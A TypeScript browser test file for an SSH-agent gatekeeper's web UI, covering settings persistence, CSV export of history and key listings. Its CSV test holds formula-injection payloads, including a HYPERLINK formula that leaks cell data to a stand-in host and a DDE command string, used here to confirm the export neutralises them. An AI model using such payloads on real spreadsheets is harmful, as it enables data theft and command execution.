// Black-box, fifth wave: the web UI's other views used the way a person does, in Chromium
// against `airlock serve --web --upstream SOCK` (README: "front an existing agent"):
// - Settings: changing only the timeout and saving must not switch off the upstream agent
//   the daemon was started with; a relative upstream path is refused with the reason shown;
// - History export: what a hostile agent wrote (`=HYPERLINK(…)`, `+cmd`, `@SUM`, quotes,
//   commas, newlines) comes out of the CSV as inert text, one row per event;
// - Keys: a stored key's "Last used" moves after a signature; the upstream agent's key is
//   listed as such and cannot be removed from here.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { startDaemon, waitFor, type Daemon } from '../helpers/daemon';
import { Wire, airlock, waitPending } from '../helpers/blackbox';
import { run, startChild } from '../helpers/ssh';
import { browserMissing, launchChromium } from '../helpers/web-ui';

const skip = browserMissing();

/** RFC 4180 rows (quotes doubled, fields may hold commas and newlines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let f = '';
  let q = false;
  const endField = () => {
    row.push(f);
    f = '';
  };
  const endRow = () => {
    endField();
    rows.push(row);
    row = [];
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (q) {
      if (c === '"' && text[i + 1] === '"') {
        f += '"';
        i++;
      } else if (c === '"') q = false;
      else f += c;
    } else if (c === '"') q = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endRow();
      i++;
    } else if (c === '\n') endRow();
    else f += c;
  }
  if (f !== '' || row.length > 0) endRow();
  return rows;
}

test('web UI, human side: Settings keep the upstream agent, History CSV is inert, Keys show last use and origin', { skip: skip ?? false, timeout: 180_000 }, async (t) => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'bb5w-'));
  const upSock = path.join(root, 'up.sock');
  const upstream = startChild('ssh-agent', ['-D', '-a', upSock]);
  const opened: { d?: Daemon; browser?: Browser; ui?: Wire } = {};
  t.after(async () => {
    opened.ui?.close();
    await opened.browser?.close();
    await opened.d?.stop();
    await upstream.stop();
    fs.rmSync(root, { recursive: true, force: true });
  });
  await waitFor(() => fs.existsSync(upSock), 'the upstream ssh-agent', 10_000);
  const upKey = path.join(root, 'upkey');
  assert.equal((await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'upstream-key', '-f', upKey])).code, 0);
  assert.equal((await run('ssh-add', [upKey], { env: { ...process.env, SSH_AUTH_SOCK: upSock } })).code, 0);
  fs.rmSync(upKey);
  const upBlob = fs.readFileSync(upKey + '.pub', 'utf8').split(' ')[1]!;

  const d = (opened.d = await startDaemon({ home: path.join(root, 'h'), args: ['--web', '--port', '0', '--upstream', upSock] }));
  const url = /web UI (http:\/\/127\.0\.0\.1:\d+\/#token=[A-Za-z0-9_-]+)/.exec(d.output())![1]!;
  const ui = (opened.ui = await Wire.open(d.uiSock));
  const env = { ...process.env, AIRLOCK_HOME: d.home };
  const sshEnv = { ...env, SSH_AUTH_SOCK: d.agentSock };
  const browser = (opened.browser = await launchChromium());
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, acceptDownloads: true });
  const page: Page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(url);
  await page.waitForSelector('[data-testid=nav-pending]');
  const upstreamListed = async () => (await run('ssh-add', ['-L'], { env: sshEnv })).stdout.includes(upBlob);
  assert.ok(await upstreamListed(), 'the upstream key is listed through Airlock');

  await t.test('Settings: saving a new timeout keeps the upstream agent serve was started with', async () => {
    await page.getByTestId('nav-settings').click();
    await page.getByTestId('setting-timeout').fill('90');
    await page.getByTestId('settings-save').click();
    await page.locator('[data-testid=toast]', { hasText: 'Settings saved' }).waitFor();
    assert.equal((await ui.ok<{ settings: { promptTimeoutSec: number } }>('settings.get')).settings.promptTimeoutSec, 90);
    assert.ok(await upstreamListed(), 'the upstream agent is still fronted after saving an unrelated setting');
  });

  await t.test('Settings: a relative upstream path is refused, the reason shown, nothing saved', async () => {
    const before = (await ui.ok<{ settings: Record<string, unknown> }>('settings.get')).settings;
    await page.getByTestId('nav-settings').click();
    const field = page.getByTestId('settings-form').getByPlaceholder('none');
    await field.fill('agent.sock');
    await page.getByTestId('setting-timeout').fill('75');
    await page.getByTestId('settings-save').click();
    await page.locator('[data-testid=toast]', { hasText: /upstreamAgent|absolute/ }).waitFor();
    assert.deepEqual((await ui.ok<{ settings: Record<string, unknown> }>('settings.get')).settings, before);
    assert.ok(await upstreamListed());
  });

  await t.test('History: hostile text exported to CSV stays text (formulas neutralised), one row per event', async () => {
    const nasty = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3', 'a "quoted", comma\nand a newline', '\t=1+1'];
    const agent = await Wire.open(d.requestSock);
    for (const [i, s] of nasty.entries()) {
      const r = await agent.ok<{ decision: string }>('request', { source: 'api', tool: 'csv.probe', action: 'read', resource: `/srv/csv/${i}`, summary: s });
      assert.equal(r.decision, 'allow');
    }
    agent.close();
    await page.getByTestId('nav-history').click();
    await page.getByTestId('history-search').fill('csv');
    await page.getByTestId('filter-source').selectOption('api');
    await waitFor(async () => (await page.getByTestId('history-row').count()) === nasty.length, 'the six rows', 20_000);
    const [dl] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-csv').click()]);
    const rows = parseCsv(fs.readFileSync((await dl.path())!, 'utf8').replace(/^\ufeff/, ''));
    const head = rows[0]!;
    const si = head.indexOf('summary');
    assert.ok(si >= 0, head.join(','));
    const body = rows.slice(1).filter((r) => r.length > 1);
    assert.equal(body.length, nasty.length, `one row per event:\n${JSON.stringify(body)}`);
    for (const r of body) {
      assert.equal(r.length, head.length, `every row has every column: ${JSON.stringify(r)}`);
      for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${JSON.stringify(cell)}`);
    }
    // Neutralised, not lost: the text is still there after the guard character.
    const summaries = body.map((r) => r[si]!.replace(/^'/, ''));
    assert.deepEqual(summaries.sort(), [...nasty].sort());
  });

  await t.test('Keys: a stored key\'s Last used moves after a signature; the upstream key says upstream and has no Remove', async () => {
    const g = await airlock(['keys', 'generate', 'signer', '--type', 'ed25519'], { env });
    assert.equal(g.code, 0, g.stderr);
    const pub = path.join(root, 'signer.pub');
    fs.writeFileSync(pub, g.stdout.split('\n').find((l) => l.startsWith('ssh-ed25519 '))! + '\n');
    await page.getByTestId('nav-keys').click();
    const row = page.getByTestId('key-row').filter({ hasText: 'signer' });
    await row.waitFor();
    assert.match((await row.textContent()) ?? '', /never/);
    const data = path.join(root, 'doc.txt');
    fs.writeFileSync(data, 'hello\n');
    const sign = run('ssh-keygen', ['-Y', 'sign', '-n', 'file', '-f', pub, data], { env: sshEnv, timeoutMs: 30_000 });
    const p = await waitPending(ui!, (x) => x.resource === 'sshsig:file', 'the signature prompt', 20_000);
    await ui.ok('pending.decide', { id: p.id, decision: 'allow', scope: 'once' });
    assert.equal((await sign).code, 0);
    await page.getByTestId('nav-history').click();
    await page.getByTestId('nav-keys').click();
    await waitFor(async () => !/never/.test((await row.textContent()) ?? ''), 'the signature to show', 20_000);
    assert.doesNotMatch((await row.textContent()) ?? '', /\bin 0 s/, 'a past use is not in the future');
    let shown = '';
    // "just now", then (the view keeps time) "N s ago": never "in 0 s", never frozen.
    await waitFor(async () => /\d+ s ago|min ago/.test((shown = (await row.textContent()) ?? '')), 'Last used to show the signature', 30_000).catch((e: Error) => {
      throw new Error(`${e.message}; the row says: ${shown}`);
    });
    const upRow = page.getByTestId('key-row').filter({ hasText: 'upstream-key' });
    await upRow.waitFor();
    assert.match((await upRow.textContent()) ?? '', /upstream/);
    assert.equal(await upRow.getByRole('button', { name: 'Remove' }).count(), 0, 'the upstream agent\'s key is not Airlock\'s to remove');
  });

  assert.deepEqual(errors, []);
});
